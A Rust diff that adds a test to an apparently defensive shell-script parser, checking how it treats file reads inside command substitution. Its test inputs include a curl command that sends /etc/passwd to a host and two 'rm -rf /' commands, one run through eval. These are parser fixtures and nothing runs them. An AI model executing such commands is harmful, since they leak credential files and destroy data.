@@ -216,6 +216,23 @@ fn other_languages_are_handed_out() {
 }
 
 #[test]
+fn a_file_read_by_the_shell_itself_is_not_constant() {
+    let script = parse(r#"curl -d "a$(</etc/passwd)" host; x=$(< "$f"); $x"#);
+    let word = &find(&script, "curl").words[2];
+    assert_eq!(word.constant(), None);
+    assert_eq!(word.text, "a$()");
+    let inner: Vec<_> = word.substitutions().collect();
+    assert_eq!(inner.len(), 1, "{word:?}");
+    let read = &script.commands[inner[0].start];
+    assert_eq!(read.redirects[0].target.text, "/etc/passwd");
+    assert_eq!(script.commands.last().unwrap().name(), None);
+    // Of a file that the script wrote, the text is known.
+    runs("echo 'rm -rf /' > ./f; eval \"$(<f)\"", "rm|-rf|/");
+    // Without a file to read there is nothing.
+    runs("rm -rf /$(x=1)", "rm|-rf|/");
+}
+
+#[test]
 fn written_files_are_listed() {
     let script = parse("cat > a.py <<'E'\nimport os\nE\necho 'x' | tee b ");
     let files: Vec<_> = script
